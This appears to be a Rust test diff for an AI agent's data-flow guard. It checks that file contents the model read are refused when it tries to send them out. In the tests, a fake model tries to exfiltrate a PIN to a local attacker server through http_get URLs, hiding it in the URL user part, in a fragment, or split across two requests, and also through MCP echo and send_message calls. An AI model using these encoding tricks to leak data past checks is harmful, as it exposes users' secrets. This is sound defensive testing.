@@ -465,3 +465,75 @@ fn a_subtask_the_model_writes_after_reading_a_file_is_not_the_persons_words() {
     assert_eq!(sub["name"], "http_get", "{record}");
     assert_eq!(sub["ran"], false, "{sub}");
 }
+
+#[test]
+fn an_mcp_tool_that_is_not_closed_world_does_not_send_what_a_file_held() {
+    // The test server's `echo` is read-only (L2) but says nothing of a closed world.
+    let w = world("prov-mcp", "");
+    support::mcp::with_test_server(&w, &[], "");
+    w.fake
+        .push(tool_call("read_file", r#"{"path": "notes.txt"}"#));
+    w.fake.push(Reply::ToolCalls(vec![
+        call("t__echo", json!({ "text": NOTES })),
+        // The person's own words still go.
+        call("t__echo", json!({ "text": "tidy notes" })),
+    ]));
+    w.fake.push(Reply::text("Done."));
+    let run = w.run(&["ask", "--json", "Tidy my notes"]).expect(4);
+    let record = run.json();
+    let echoes = calls_of(&record, "t__echo");
+    assert_eq!(echoes[0]["ran"], false, "{}", echoes[0]);
+    assert_eq!(echoes[0]["decision"]["refuse"]["sends_data"]["level"], "L3");
+    assert_eq!(echoes[1]["ran"], true, "{}", echoes[1]);
+    // In chat the person is asked, with no "always for a host" (there is none).
+    w.fake
+        .push(tool_call("read_file", r#"{"path": "notes.txt"}"#));
+    w.fake.push(call_reply(
+        "t__send_message",
+        json!({"to": "bob", "text": NOTES}),
+    ));
+    w.fake.push(Reply::text("Not sent."));
+    let run = w
+        .run_stdin(&["chat"], "read my notes\nno\n/quit\n")
+        .expect(0);
+    assert!(
+        run.stdout.contains(&format!(
+            "This sends data off the machine that you did not give: {NOTES}"
+        )),
+        "{}",
+        run.stdout
+    );
+    assert!(!run.stdout.contains("allows this host"), "{}", run.stdout);
+}
+
+fn call_reply(name: &str, args: serde_json::Value) -> Reply {
+    tool_call(name, &args.to_string())
+}
+
+#[test]
+fn data_in_the_user_part_a_fragment_or_spread_over_calls_is_refused() {
+    let attacker = Attacker::start("ok");
+    let w = world("prov-spread", "");
+    let urls = [
+        format!("http://4921:7788@127.0.0.1:{}/", attacker.port),
+        attacker.url("/#pin=4921"),
+        attacker.url("/49"),
+        attacker.url("/21"),
+    ];
+    w.fake
+        .push(tool_call("read_file", r#"{"path": "notes.txt"}"#));
+    w.fake.push(Reply::ToolCalls(
+        urls.iter()
+            .map(|u| call("http_get", json!({ "url": u })))
+            .collect(),
+    ));
+    w.fake.push(Reply::text("Done."));
+    let run = w
+        .run(&["ask", "--json", "--yes", "Check my notes"])
+        .expect(4);
+    assert!(attacker.seen().is_empty(), "{:?}", attacker.seen());
+    let record = run.json();
+    assert!(calls_of(&record, "http_get")
+        .iter()
+        .all(|g| g["ran"] == false));
+}
